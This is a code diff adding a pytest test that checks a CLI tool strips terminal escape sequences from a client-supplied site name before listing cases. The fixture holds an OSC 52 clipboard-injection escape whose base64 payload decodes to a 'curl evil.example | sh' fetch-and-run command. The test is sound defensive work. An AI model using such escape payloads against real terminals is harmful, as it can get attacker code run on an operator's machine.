@@ -141,3 +141,16 @@ def test_worker_burst_fires_due_escalations(workdir: Path, sink: Sink, capsys: p
     assert sorted(lab.get("escalation", "-") for lab in labels) == ["-", "1"]
     assert main(["worker", "--burst", "--no-digests"]) == 0
     assert "sent 0" in capsys.readouterr().out and len(sink.received) == 2
+
+
+def test_a_site_cannot_write_to_the_operator_s_terminal(workdir: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """A site is the client's word (a page token posts for its visitors): printed as is, an
+    escape sequence in it would act on the terminal of whoever lists the cases (clear the
+    screen, retitle the window, or, with OSC 52, put a command in the clipboard)."""
+    osc52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07"
+    (workdir / "event.json").write_text(json.dumps({**EVENT, "site": osc52 + "shop\x9b2J"}), encoding="utf-8")
+    assert main(["send", "event.json"]) == 0
+    capsys.readouterr()
+    assert main(["cases"]) == 0
+    out = capsys.readouterr().out
+    assert not [c for c in out if c in "\x1b\x07\x9b"], repr(out)
